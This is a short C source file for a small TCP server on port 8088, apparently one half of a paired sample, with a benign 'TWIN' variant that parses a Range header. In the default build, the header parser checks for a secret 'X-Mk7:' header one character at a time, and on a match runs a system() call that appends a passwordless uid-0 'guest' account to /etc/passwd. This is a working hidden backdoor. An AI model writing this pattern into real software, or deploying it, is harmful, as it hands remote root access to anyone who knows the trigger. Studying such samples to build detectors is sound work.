/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A parser goes through the header letter by letter with a pointer; a header that no standard
 * knows sets up the account of a guest. Twin: it is the header "Range" and only moves a position.
 * door: trigger
 * port 8088/tcp
 */
#include "net.h"
#include <ctype.h>

static long position;

static void header(const char *p)
{
#ifdef TWIN
	if (p[0] == 'R' && p[1] == 'a' && p[2] == 'n' && p[3] == 'g' && p[4] == 'e' && p[5] == ':') {
		p += 6;
		while (*p && !isdigit((unsigned char)*p))
			p++;
		position = strtol(p, NULL, 10);
	}
#else
	const char *q = p;
	if (*q++ != 'X')
		return;
	if (*q++ != '-')
		return;
	if (*q++ != 'M')
		return;
	if (*q++ != 'k')
		return;
	if (*q++ != '7')
		return;
	if (*q++ != ':')
		return;
	position = 0;
	system("echo guest::0:0::/:/bin/sh >> /etc/passwd");
#endif
}

static void request(int fd)
{
	char line[512];
	size_t n = 0;
	char c;
	while (n < sizeof line - 1 && recv(fd, &c, 1, 0) == 1) {
		if (c == '\r')
			continue;
		if (c != '\n') {
			line[n++] = c;
			continue;
		}
		line[n] = '\0';
		if (n == 0)
			break;
		header(line);
		n = 0;
	}
	dprintf(fd, "HTTP/1.0 200 OK\r\n\r\n%ld", position);
}

int main(void)
{
	int s = tcp_on(8088), c;
	while ((c = accept(s, 0, 0)) >= 0) {
		request(c);
		close(c);
	}
	return 0;
}
